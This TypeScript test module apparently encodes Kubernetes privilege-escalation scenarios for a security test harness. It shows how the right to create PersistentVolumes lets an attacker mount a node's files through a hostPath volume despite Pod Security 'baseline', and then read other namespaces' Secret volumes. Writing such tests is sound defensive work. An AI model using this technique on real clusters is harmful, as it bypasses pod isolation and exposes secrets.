import { pathOf, waitFor } from "../../control-plane/act.ts";
import type { Stored } from "../../control-plane/story.ts";
import { ACCEPTED, type Attack } from "./attack.ts";
import { harmless } from "./kubelet.ts";
import { HOST_PATH, lookAround, settle, VIEW } from "./neighbour.ts";
import { enforce, podSecurity } from "./psa.ts";
import { fresh, type Stage } from "./stage.ts";

const CAPACITY = { storage: "1Gi" };
const CLAIM = { accessModes: ["ReadWriteOnce"], storageClassName: "" };

/** Creates, as the attacker, a volume of a node's path for a claim of that name, and returns a pod's volume that claims it. */
async function claimed(stage: Stage, name: string, claim: string): Promise<Stored> {
  const claimRef = { namespace: stage.namespace, name: claim };
  const body = { metadata: { name }, spec: { ...CLAIM, capacity: CAPACITY, ...HOST_PATH, claimRef } };
  await stage.send("POST", "/api/v1/persistentvolumes", body);
  const spec = { ...CLAIM, resources: { requests: CAPACITY }, volumeName: name };
  return { name: "node", ephemeral: { volumeClaimTemplate: { spec } } };
}

async function forbidden(stage: Stage): Promise<void> {
  await enforce(stage, "baseline");
  await podSecurity(stage, "refuses");
}

export const attacks: Attack[] = [
  {
    edge: "persistentvolumes-create",
    how: "a pod that sees the files of its node by a volume, where Pod Security forbids it the hostPath",
    accepted: true,
    rights: (stage) => [stage.everywhere("create", "persistentvolumes"), stage.here("create", "pods")],
    arrange: forbidden,
    attack: async (stage) => {
      const { plane, namespace } = stage;
      const name = fresh("node-files");
      const claim = `${name}-node`;
      const volumes = [await claimed(stage, name, claim)];
      await stage.send("POST", pathOf("Pod", namespace), { metadata: { name }, spec: harmless(stage, { volumes }) });
      // The attacker may make no claims: a controller makes this one, of the pod's volume.
      await waitFor("the claim", async () => {
        const path = `/api/v1/namespaces/${namespace}/persistentvolumeclaims/${claim}`;
        const { status, body } = await plane.request("GET", path);
        return status === 200 && body.spec.volumeName === name;
      });
      return ACCEPTED;
    },
  },
  {
    edge: "persistentvolumes-create",
    how: "by such a pod, a Secret's volume of another namespace's pod",
    onRealNode: true,
    rights: (stage) => [stage.everywhere("create", "persistentvolumes"), stage.here("create", "pods")],
    arrange: async (stage) => {
      await settle(stage, stage.next);
      await forbidden(stage);
    },
    attack: async (stage) => {
      const pod = fresh("intruder");
      const volumes = [await claimed(stage, fresh("node-files"), `${pod}-node`)];
      return lookAround(stage, "secrets", { container: VIEW, pod: { volumes } }, pod);
    },
  },
];
